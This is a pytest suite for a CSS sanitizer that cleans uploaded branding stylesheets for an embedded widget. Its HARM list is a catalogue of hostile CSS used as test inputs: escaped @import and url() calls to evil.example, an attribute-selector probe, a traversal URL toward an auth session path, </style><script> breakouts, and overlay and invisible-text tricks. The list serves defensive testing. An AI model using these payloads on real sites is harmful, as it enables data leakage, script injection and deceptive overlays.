"""Stylesheets: what is kept of them is written anew, and nothing else is."""

from __future__ import annotations

import re
import string
import time
from contextlib import suppress
from dataclasses import asdict
from pathlib import Path

import pytest
import tinycss2
from hypothesis import given
from hypothesis import strategies as st

from server.catalogue.branding.css_colours import DARK, MEANINGS, contrast
from server.catalogue.branding.css_properties import READERS
from server.catalogue.branding.css_sanitizer import MOST_BYTES, Cleaned, read_stylesheet
from server.catalogue.branding.css_values import OWN
from server.catalogue.branding.theme import COLOUR_TOKENS, Colours
from server.platform.errors import FileTooLarge, Invalid
from server.testing.harness.drawing import drawn

ROOT = Path(__file__).parents[4]
THEMES = Path(__file__).parent / "looks"
TEMPLATE = Path(__file__).parents[1] / "template.css"


def read(text: str) -> Cleaned:
    return read_stylesheet(text.encode(), own_picture=lambda name: name == "branding/own.png")


def rules_of(text: str) -> str:
    """Give what is written of rules, without the block of tokens and what it makes of the widget's variables."""
    return "".join(line for line in read(text).css.splitlines(keepends=True) if not line.startswith(":root"))


def why(text: str) -> list[tuple[int, str]]:
    return [(row["line"], row["what"]) for row in read(text).left_out]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("h1 { COLOR : Red }", ".fy-widget h1{color:#ff0000}\n"),
        (".fy-widget, body .fy-widget h1 > b { color: #abc }", ".fy-widget,.fy-widget h1>b{color:#aabbcc}\n"),
        ("html body { background: #fff }", "body{background:#ffffff}\n"),
        (
            ":root, p { background: rgb(0 0 0 / 50%) }",
            "body{background:#00000080}\n.fy-widget p{background:#00000080}\n",
        ),
        (
            "a:hover, a:nth-child(odd) { margin: 0 1rem }",
            ".fy-widget a:hover,.fy-widget a:nth-child(2n+1){margin:0 1rem}\n",
        ),
        ("p::before { content: '' }", '.fy-widget p::before{content:""}\n'),
        ("p { color: var(--foyer-text, url(//x)) }", ".fy-widget p{color:var(--foyer-text,var(--fy-text))}\n"),
        ("p { font-family: Georgia, Evil, serif }", '.fy-widget p{font-family:"Georgia",serif}\n'),
        ("p { font-size: clamp(1rem, 3vw, 32px) }", ".fy-widget p{font-size:clamp(1rem,3vw,32px)}\n"),
        ("p { color: oklch(60% 0.2 30) }", ".fy-widget p{color:#de3e2d}\n"),
        ("p { color: red; color: blue !important }", ".fy-widget p{color:#0000ff}\n"),
        (
            "p { box-shadow: rgb(0 0 0) 1px 2px 3px 4px inset }",
            ".fy-widget p{box-shadow:inset 1px 2px 3px 4px #000000}\n",
        ),
        (
            "p { background: url(/media/branding/own.png) no-repeat center / cover, red }",
            '.fy-widget p{background:url("/media/branding/own.png") no-repeat center / cover,#ff0000}\n',
        ),
        (
            "p { background-image: linear-gradient(to top left, red 10%, blue), "
            "radial-gradient(circle at top, red, #fff) }",
            ".fy-widget p{background-image:linear-gradient(to top left,#ff0000 10%,#0000ff),"
            "radial-gradient(circle at top,#ff0000,#ffffff)}\n",
        ),
        (
            "@media screen and (width >= 600px) and (hover: hover) { p { color: red } }",
            "@media (min-width:600px) and (hover:hover){\n.fy-widget p{color:#ff0000}\n}\n",
        ),
        ('@charset "utf-8"; p { border: solid 1px currentColor }', ".fy-widget p{border:solid 1px currentcolor}\n"),
    ],
)
def test_what_is_harmless_is_written_anew(text, expected):
    assert rules_of(text) == expected


HARM = [
    '@import "//evil.example/x.css";',
    "@import url(//evil.example/x.css);",
    "@IMPORT url(//evil.example/x.css);",
    "@\\69mport '//evil.example/x.css';",
    "@font-face { font-family: Arial; src: url(//evil.example/f); unicode-range: U+61 }",
    "@property --foyer-accent { syntax: '*'; inherits: true; initial-value: url(//evil.example) }",
    "@namespace url(//evil.example);",
    "@layer a { p { color: red } }",
    "@container (width > 1px) { p { color: red } }",
    "@supports (color: red) { p { color: red } }",
    "@scope (body) { p { color: red } }",
    "@starting-style { p { color: red } }",
    "@keyframes a { to { color: red } }",
    "@view-transition { navigation: auto }",
    "@media print { p { color: red } }",
    "@media (width > 1px) { @media (width > 2px) { p { color: red } } }",
    "@media (width > 1px) { @import '//evil.example'; }",
    "input[value^=a] { background: red }",
    "[data-x] { color: red }",
    "p:has(input) { color: red }",
    "p:is(a) { color: red }",
    "p:not(.x) { color: red }",
    "p:where([a]) { color: red }",
    "#root { color: red }",
    "p::selection { color: red }",
    "p::view-transition-old(x) { color: red }",
    "p::part(x) { color: red }",
    ":host { color: red }",
    "iframe { border: 0 }",
    ".fy-widget + * { color: red }",
    "body + p { color: red }",
    "p > > a { color: red }",
    "p, { color: red }",
    "p { a { color: red } }",
    "p { &:hover { color: red } }",
    "p { @media (hover) { color: red } }",
    "p { background: url(//evil.example/a) }",
    "p { background: URL('//evil.example/a') }",
    "p { background: \\75rl(//evil.example/a) }",
    "p { background: u\\72 l(//evil.example/a) }",
    "p { background: url(/media/branding/others.png) }",
    "p { background: url(/media/branding/../../v1/auth/session) }",
    "p { background: url(data:image/svg+xml,x) }",
    "p { background: src('//evil.example/a') }",
    "p { background: image('//evil.example/a') }",
    "p { background: image-set('//evil.example/a' 1x) }",
    "p { background: -webkit-image-set(url(//evil.example/a) 1x) }",
    "p { background: cross-fade(url(//evil.example/a), red) }",
    "p { background: element(#x) }",
    "p { background: paint(x) }",
    "p { background: linear-gradient(red, url(//evil.example/a)) }",
    "p { background: var(--x, url(//evil.example/a)) }",
    "p { background-attachment: fixed }",
    "p { background-clip: text }",
    "p { --x: url(//evil.example/a) }",
    "p { --foyer-accent: red }",
    ":root { --foyer-accent: url(//evil.example/a) }",
    ":root { --foyer-accent: var(--fy-text) }",
    ":root { --foyer-font: url(//evil.example/a) }",
    ":root { --fy-accent: red }",
    ":root { --foyer-radius: 400px }",
    "body { color: red }",
    "p { color: if(style(--x: 1): red; else: blue) }",
    "p { color: attr(value color) }",
    "p { color: env(x, red) }",
    "p { color: red\\9 }",
    "p { width: expression(alert(1)) }",
    "p { behavior: url(//evil.example/a) }",
    "p { -moz-binding: url(//evil.example/a) }",
    "p { list-style: url(//evil.example/a) }",
    "p { cursor: url(//evil.example/a), auto }",
    "p { filter: url(//evil.example/a) }",
    "p { mask: url(//evil.example/a) }",
    "p { clip-path: url(//evil.example/a) }",
    "p { border-image: url(//evil.example/a) 1 }",
    "p { shape-outside: url(//evil.example/a) }",
    "p { content: url(//evil.example/a) }",
    "p::before { content: 'Pay here' }",
    "p::before { content: attr(value) }",
    "p::before { content: counter(x) }",
    "p { position: fixed }",
    "p { inset: 0 }",
    "p { z-index: 9 }",
    "p { display: none }",
    "p { visibility: hidden }",
    "p { opacity: 0 }",
    "p { color: transparent }",
    "p { color: rgb(0 0 0 / 0) }",
    "p { color: #ff000020 }",
    "p { color: hsl(0 0% 0% / 10%) }",
    "p { color: color-mix(in srgb, red 5%, transparent) }",
    "p { color: color-mix(in srgb, red 20%, #0000) }",
    "p { color: color-mix(in srgb, red 5%, blue 5%) }",
    "p { -webkit-text-fill-color: transparent }",
    "p { -webkit-text-security: disc }",
    "p { content-visibility: hidden }",
    "p { mix-blend-mode: screen }",
    "p { max-height: 0 }",
    "p { left: -9999px }",
    ":root { --foyer-text: transparent }",
    ":root { --foyer-text-soft: #ffffff10 }",
    ":root { --foyer-on-accent: rgb(0 0 0 / 0) }",
    "p::after { padding: 64px }",
    "p::after { padding-top: 1px }",
    "p::before { padding-block: 64px 0 }",
    "p::before { box-shadow: 0 0 0 16px #fff }",
    "p::after { border-bottom: 16px solid #fff }",
    "p::after { border-block-end-width: 16px }",
    "p::after { border-width: 16px }",
    "p::after { line-height: 2.5 }",
    "p::after { font-size: 64px }",
    "p { transform: scale(9) }",
    "p { translate: 9px }",
    "p { margin: -1px }",
    "p { margin: 100vh }",
    "p { margin: calc(1px - 900px) }",
    "p { margin: clamp(-900px, 1vw, 1px) }",
    "p { padding: 65px }",
    "p { padding: 1e999px }",
    "p { font-size: 0 }",
    "p { font-size: 4em }",
    "p { font-size: 900px }",
    "p { line-height: 0 }",
    "p { letter-spacing: -9em }",
    "p { text-indent: -999px }",
    "p { box-shadow: 0 0 0 9999px red }",
    "p { box-shadow: 900px 0 red }",
    "p { border: 900px solid red }",
    "p { outline: 0 }",
    "p { width: 100vw }",
    "p { height: 0 }",
    "p { overflow: hidden }",
    "p { float: left }",
    "p { animation: a 1s }",
    "p { transition: all 9s }",
    "p { view-transition-name: x }",
    "p { anchor-name: --x }",
    "p { pointer-events: none }",
    "p { all: unset }",
    "p { font: 1px Evil }",
    "p { font-family: Evil }",
    "p { font-family: 'Arial; } </style><script>' }",
    ".\\</style\\> { color: red }",
    "p { color: '</style>' }",
    "</style><script>alert(1)</script> { color: red }",
    "p { color: rgb(1e999 0 0 }",
]


@pytest.mark.parametrize("text", HARM)
def test_what_could_do_harm_is_left_out_and_said(text):
    cleaned = read("h1 { color: red }\n" + text)

    assert cleaned.css == ".fy-widget h1{color:#ff0000}\n"
    assert {row["line"] for row in cleaned.left_out} == {2}
    assert all(row["why"].endswith(".") for row in cleaned.left_out)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Text in the colour of its own ground is left out, whichever is said first and however each is written.
        ("p { color: #fff; background: white }", "{background:#ffffff}"),
        ("p { background-color: #ffe; color: rgb(255 255 255) }", "{background-color:#ffffee}"),
        (
            "p { background: #fff; color: var(--foyer-text) }",
            "{background:#ffffff;color:var(--foyer-text,var(--fy-text))}",
        ),
        ("p { background: #000; color: #fff }", "{background:#000000;color:#ffffff}"),
        ("p { background: #fff8; color: #fff }", "{background:#ffffff88;color:#ffffff}"),
        # What can be read through is kept, and so is what is no text.
        ("p { color: rgb(0 0 0 / 50%) }", "{color:#00000080}"),
        (
            "p { border-color: transparent; background: transparent }",
            "{border-color:transparent;background:transparent}",
        ),
        ("p { caret-color: transparent }", "{caret-color:transparent}"),
        ("p { color: color-mix(in srgb, red 30%, blue) }", "{color:color-mix(in srgb,#ff0000 30%,#0000ff)}"),
        ("p { color: color-mix(in srgb, transparent 30%, red) }", "{color:color-mix(in srgb,transparent 30%,#ff0000)}"),
    ],
)
def test_text_in_the_colour_of_its_own_ground_is_left_out(text, expected):
    assert rules_of(text) == f".fy-widget p{expected}\n"


def test_a_mark_beside_a_heading_is_kept():
    text = "h1::before { content: ''; padding-inline: 8px; border-inline-start: 4px solid red; margin: 4px }"
    assert not read(text).left_out


@pytest.mark.parametrize(
    "content",
    [
        b"\0p{}",
        "p{color:red}".encode("utf-16"),
        "p{color:red}".encode("utf-16-le"),
        b"\xff\xfep{}",
        b"<!doctype html><style>p{}</style>",
        b"\n <script>",
        b"GIF89a\x01\x00",
        b"just words",
        b"",
    ],
)
def test_what_is_no_css_is_refused(content):
    with pytest.raises(Invalid, match=r"^CSS file is required\.$"):
        read_stylesheet(content, own_picture=bool)


def test_a_mark_of_byte_order_does_no_harm_and_a_long_file_is_refused():
    assert read_stylesheet(b"\xef\xbb\xbfp{color:red}", own_picture=bool).css == ".fy-widget p{color:#ff0000}\n"
    with pytest.raises(FileTooLarge):
        read_stylesheet(b"p{}" + b" " * MOST_BYTES, own_picture=bool)


def test_removed_rules_are_listed_with_their_lines():
    rows = read("p {\n  color: red;\n  position: fixed;\n}\n/* … */ @import 'x';\n").left_out

    assert rows == [
        {"line": 3, "what": "position: fixed", "why": "Nothing may be laid over the widget."},
        {"line": 5, "what": "@import 'x'".replace("'", '"'), "why": rows[1]["why"]},
    ]


def test_tokens_say_the_colours_and_what_they_do_not_say_follows_them():
    cleaned = read(":root { --foyer-accent: rgb(0 0 0 / 50%); --foyer-surface: #111; --foyer-radius: 6px }")

    assert cleaned.tokens == {"--foyer-accent": "#00000080", "--foyer-surface": "#111111", "--foyer-radius": "6px"}
    assert (cleaned.colours.accent, cleaned.colours.surface) == ("#080808", "#111111")
    assert contrast(cleaned.colours.text, cleaned.colours.surface) > 15
    assert contrast(cleaned.colours.text_soft, cleaned.colours.surface) > 4.5
    assert contrast(cleaned.colours.on_accent, cleaned.colours.accent) > 15
    assert "--fy-scheme:dark" in cleaned.css
    assert "--fy-radius-card:calc(6px*1.5)" in cleaned.css


def test_without_tokens_the_colours_are_ours():
    assert read("p { color: red }").colours == Colours()
    assert read("p { color: red }").dark_colours == DARK


def test_dark_and_light_values_are_independent():
    night = read(":root{--foyer-accent:#c00} @media (prefers-color-scheme: dark) {:root{--foyer-accent:pink}}")
    assert (night.colours.accent, night.dark_colours.accent) == ("#cc0000", "#ffc0cb")
    assert night.dark_colours.surface == DARK.surface

    day = read("@media (prefers-color-scheme: light) {:root{--foyer-page:#ffd}}")
    assert (day.colours.page, day.dark_colours.page) == ("#ffffdd", DARK.page)


def test_of_too_many_rules_the_first_are_kept():
    cleaned = read("p{color:red}\n" * 3_000)
    assert cleaned.css.count("\n") == 1_000
    assert cleaned.left_out[-1]["line"] == 1_001


def test_our_colours_are_those_of_the_app():
    """What the reader makes of tokens begins with the widget's own variables."""
    tokens_css = (ROOT / "pwa/src/theme/tokens.css").read_text()
    light, dark = (
        dict(re.findall(r"(--fy-[a-z0-9-]+): (#[0-9a-f]{6});", half))
        for half in tokens_css.split('[data-theme="dark"]', 1)
    )
    for colours, ours in ((Colours(), light), (DARK, dark)):
        assert asdict(colours) == {name: ours[OWN[token]] for token, name in COLOUR_TOKENS.items()}
    for name, kinds in MEANINGS.items():
        for (text, ground), ours in zip(kinds, (light, dark), strict=True):
            assert (text, ground) == (ours[f"--fy-{name}"], ours[f"--fy-{name}-soft"])


def test_template_names_every_token_with_its_value():
    cleaned = read_stylesheet(TEMPLATE.read_bytes(), own_picture=bool)

    assert not cleaned.left_out
    assert list(cleaned.tokens) == list(OWN)
    assert (cleaned.colours, cleaned.dark_colours) == (Colours(), DARK)
    text = TEMPLATE.read_text()
    assert {family for name in READERS if (family := name.split("-")[0]) not in text} == {"row", "column"}


@pytest.mark.parametrize("name", ["plain", "dark", "loud"])
def test_whole_themes_are_kept_and_can_be_read(name):
    cleaned = read_stylesheet((THEMES / f"{name}.css").read_bytes(), own_picture=bool)

    assert not cleaned.left_out
    for colours in (cleaned.colours, cleaned.dark_colours):
        for text in (colours.text, colours.text_soft):
            assert contrast(text, colours.surface) >= 4.5
        assert contrast(colours.on_accent, colours.accent) >= 4.5


# What is written, whatever was read.
PIECES = [
    *HARM,
    *("p{", "}", "{", ";", ":", "(", ")", "[", "]", ",", "/*", "*/", "\\", "\\75rl(", '"', "'", "\n", "<!--", "-->"),
    *("@media (width > 1px){", ":root{", "body{", ".fy-widget ", "color:", "background:", "url(", "var(--foyer-text)"),
    *("red", "#fff", "1px", "50%", "!important", "hsl(1 2% 3%)", "lab(1 nan 3)", "linear-gradient(", "\ufeff"),
    *("padding:", "margin:1em", "font-family:", "Georgia", "content:", '""', "::before", ":nth-child(", "-0.0001n+"),
]
WRITTEN = re.compile(
    r"""(?x)
    @media\ \([a-z0-9:.,()\ -]+\)\{ | \}
    | (:root | body | \.fy-widget[\w.*:>+~(), -]*)\{(
        [a-z0-9-]+:(url\("/media/branding/own\.png"\) | "[A-Za-z -]*" | [a-z0-9\#%.,()/*\ -])+ ;?
    )+\}
    """
)


def assert_harmless(text: str) -> None:
    try:
        first = read(text)
    except Invalid:
        return
    assert read(first.css).css == first.css if first.css else True
    assert set(first.css) <= set(string.ascii_letters + string.digits + " \n#%.,:;(){}\"'*+~>_/@-")
    for line in first.css.splitlines():
        assert WRITTEN.fullmatch(line), line
    for node in tinycss2.parse_stylesheet(first.css, skip_whitespace=True):
        inside = node.content if node.type == "at-rule" else []
        for rule in [node, *tinycss2.parse_rule_list(inside, skip_whitespace=True)]:
            assert rule.type != "error"
            for declared in tinycss2.parse_blocks_contents(rule.content) if rule.type == "qualified-rule" else []:
                own = declared.name in READERS or declared.name.startswith(("background", "--foyer-", "--fy-"))
                assert declared.type == "declaration"
                assert own, declared.name


@drawn(few=60, many=400)
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_parsed_css_is_harmless_and_stable(text):
    assert_harmless(text)


@drawn(few=20, many=200)
@given(st.text(max_size=200))
def test_whatever_is_read_what_is_written_is_harmless(text):
    assert_harmless(text)
    assert_harmless(f"p{{{text}}}")
    assert_harmless(f"p{{color:{text}}}")


@pytest.mark.parametrize(
    "piece",
    [
        *("(", "{", "a{", "a[", "rgb(", "/*", "\\75", '"', "url(", "@media ", "*,", "a ", "~", ";", "<!--", "1e9"),
        *("a{b{color:red}", "color:red;", "a{color:red}", ":nth-child(2n+1)", "color-mix(in oklab,"),
        *("@media (width>1px){", "linear-gradient(red,"),
    ],
)
@pytest.mark.parametrize(
    "start", ["", *(pytest.param(start, marks=pytest.mark.sweep) for start in ("a{", "a{color:", "a{}"))]
)
def test_the_longest_file_that_was_made_to_be_slow_is_read_at_once(piece, start):
    text = start + piece * ((MOST_BYTES - len(start)) // len(piece))
    before = time.process_time()
    with suppress(Invalid):
        read(text)
    # Some 0.1 s at most on a machine with nothing else to do.
    assert time.process_time() - before < 2  # 0.1 s at rest; what goes wrong here takes minutes
